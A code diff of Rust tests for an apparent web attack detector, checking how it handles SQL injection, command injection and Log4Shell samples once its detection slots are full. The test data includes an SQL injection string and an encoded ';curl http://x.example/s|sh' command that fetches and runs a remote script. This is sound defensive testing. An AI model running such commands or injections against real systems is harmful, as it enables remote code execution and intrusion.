@@ -92,7 +92,7 @@ fn one_detection_for_each_rule_and_place() {
     let many: String = (0..1000).map(|n| format!("p{n}=%27+or+1=1--&")).collect();
     let many = found(&format!("/?{many}k=%3Bcurl+http://x.example/s%7Csh"), &[]);
     assert!(many.iter().any(|line| line.starts_with("rce.")), "what fills one rule hides no other: {many:?}");
-    assert!(many.len() < super::detection::DETECTIONS);
+    assert!(many.len() < super::detections::DETECTIONS);
 }
 
 #[test]
@@ -105,12 +105,12 @@ fn no_request_is_so_full_that_the_application_is_not_heard() {
             scan.push(&rules, Field { target: example.target, name: name.as_bytes(), value, encoded: false });
         }
     }
-    assert_eq!(scan.detections().len(), super::detection::DETECTIONS);
+    assert_eq!(scan.detections().len(), super::detections::DETECTIONS);
     let field = Field { target: Target::Answer, name: b"", value: b"", encoded: false };
     for name in ["a", "a", "b"].map(|name| Some(name.to_owned())) {
         scan.note_as(&rules, Signal::ApplicationEvent, field, Note { name, ..Note::default() });
     }
-    assert_eq!(scan.detections().len(), super::detection::DETECTIONS + 2);
+    assert_eq!(scan.detections().len(), super::detections::DETECTIONS + 2);
 }
 
 #[test]
@@ -164,7 +164,7 @@ fn a_pasted_text_counts_for_less_and_a_lookup_does_not() {
 }
 
 #[test]
-fn what_comes_after_the_last_place_for_detections_is_counted() {
+fn when_all_places_are_taken_milder_ones_and_spare_ones_give_way() {
     let rules = RuleSet::builtin();
     let mut scan = Scan::new();
     let push = |scan: &mut Scan, number: usize, example: &Example, text: &str| {
@@ -172,16 +172,22 @@ fn what_comes_after_the_last_place_for_detections_is_counted() {
         let field = Field { target: example.target, name: name.as_bytes(), value: text.as_bytes(), encoded: false };
         scan.push(&rules, field);
     };
-    let mut all = EXAMPLES.iter().flat_map(|one| one.matches.iter().map(move |text| (one, *text))).enumerate();
-    while scan.detections().len() < super::detection::DETECTIONS {
+    let is_late = |rule: &str| rule.starts_with("log4shell.");
+    let mut all = EXAMPLES
+        .iter()
+        .filter(|one| !is_late(one.rule))
+        .flat_map(|one| one.matches.iter().map(move |text| (one, *text)))
+        .enumerate();
+    while scan.detections().len() < super::detections::DETECTIONS {
         let Some((number, (example, text))) = all.next() else { panic!("too few examples") };
         push(&mut scan, number, example, text);
     }
-    assert_eq!(scan.take_unseen(), 0);
     push(&mut scan, 1, &EXAMPLES[0], "five.");
-    push(&mut scan, 2, &EXAMPLES[0], "' or 1=1-- ");
-    assert_eq!((scan.take_unseen(), scan.take_unseen()), (16, 0));
-    assert_eq!(scan.detections().len(), super::detection::DETECTIONS);
+    let late = EXAMPLES.iter().find(|one| is_late(one.rule)).unwrap();
+    push(&mut scan, 2, late, late.matches[0]);
+    assert_eq!(scan.take_unseen(), 0);
+    assert_eq!(scan.detections().len(), super::detections::DETECTIONS);
+    assert!(scan.detections().iter().any(|one| is_late(rules.rule(one.rule).id)));
 }
 
 /// Rules with an example that text around it hides, and why that is meant. A rule that is not here must find its examples
@@ -334,7 +340,7 @@ fn hostile_values_cost_what_their_length_says() {
         let mut body = read::Body::new(&head, 1 << 20);
         body.push(text.as_bytes(), &mut |field| scan.push(&rules, field));
         body.finish(&mut |field| scan.push(&rules, field));
-        assert!(scan.detections().len() <= super::detection::DETECTIONS);
+        assert!(scan.detections().len() <= super::detections::DETECTIONS);
     }
 }
 
